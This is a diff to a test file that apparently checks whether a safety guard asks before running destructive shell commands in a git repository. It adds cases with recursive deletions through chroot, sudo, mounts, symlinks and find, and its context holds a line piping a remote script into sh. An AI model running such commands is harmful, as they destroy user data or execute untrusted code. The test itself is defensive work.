@@ -102,6 +102,14 @@ describe('in a clean, fully committed repository', () => {
     { what: 'another machine', command: 'ssh host rm -rf src' },
     { what: 'behind code from elsewhere', command: 'curl https://x.example/a | sh; rm -rf src' },
     { what: 'behind a script from elsewhere', command: 'sh ../x.sh; rm -rf src' },
+    { what: 'another root', command: 'chroot /mnt rm -rf /src' },
+    { what: 'the home that a login begins in', command: 'sudo -i rm -rf src' },
+    { what: 'the home of another user', command: 'su - -c "rm -rf src"' },
+    { what: 'a folder that a wrapper goes to', command: 'systemd-run --working-directory=/x rm -rf src' },
+    { what: 'what is mounted', command: 'mount new; rm -rf new' },
+    { what: 'what a program mounts', command: 'sshfs h:/x new && rm -rf new' },
+    { what: 'what is packed', command: 'gzip mine.md && rm mine.md.gz', files: { 'mine.md': 'x' } },
+    { what: 'what git renames', command: 'git mv src/a.ts new.ts && rm new.ts', files: { 'src/a.ts': 'b' } },
     { what: 'what a search may find in the repository itself', command: "find . -name 'a*' -delete" },
   ])('something may be lost of $what', ({ command, files = {} }) => {
     const project = committed();
@@ -184,6 +192,29 @@ describe('where git may not know', () => {
     put(project, { 'src/A.ts': 'mine' });
     if (readFileSync(join(project, 'src/a.ts'), 'utf8') === 'mine') return;
     expect(asks(project, 'rm -rf src')).toBe(true);
+  });
+
+  test.each([
+    'rm -rf src/*/*',
+    'rm -rf src/*/x',
+    'rm -rf src/**/x',
+    'rm -rf dist/*/*',
+    'rm -rf dist/link/../lib',
+    'env -C dist/link/.. rm -rf lib',
+    'cd dist/link && rm -rf ../lib',
+    'cd -P dist/link/.. && rm -rf src',
+    'find -L dist -delete',
+    'find src -follow -delete',
+    'find -L dist | xargs rm -rf',
+  ])('what lies behind a link in it: %s', (command) => {
+    const project = committed();
+    const notes = join(scratchFolder(), 'notes');
+    put(notes, { x: 'x', 'd/a.ts': 'a' });
+    put(project, { 'dist/a': '' });
+    for (const link of ['src/link', 'dist/link']) symlinkSync(notes, join(project, link));
+    git(project, 'add', '-A');
+    git(project, 'commit', '-qm', 'link');
+    expect(asks(project, command)).toBe(true);
   });
 
   test('nothing that the repository names is run', () => {
